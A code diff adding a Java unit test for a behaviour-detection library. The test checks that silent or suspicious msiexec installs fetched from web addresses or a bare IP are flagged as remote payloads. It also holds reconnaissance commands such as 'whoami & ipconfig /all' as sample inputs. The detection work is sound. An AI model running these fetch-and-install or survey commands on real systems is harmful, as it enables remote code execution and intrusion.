@@ -79,6 +79,16 @@ class BehavioursTest {
     }
 
     @Test
+    void msiexecFromAWebAddressCountsWhenUnattendedOrNotAPackage() {
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /q /i https://files.example.net/agent.msi", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec.exe /i https://files.example.net/agent.msi /quiet", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://files.example.net/logo.jpg", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i http://198.51.100.7/setup.msi", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://downloads.example.com/viewer-2.1.msi", true)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /update https://downloads.example.com/fix.msp /norestart", true)).isFalse();
+    }
+
+    @Test
     void discoveryIsABurstOfDistinctSurveysNotOneLookup() {
         assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "id; uname -a", false)).isTrue();
         assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c \"whoami & ipconfig /all\"", true)).isTrue();
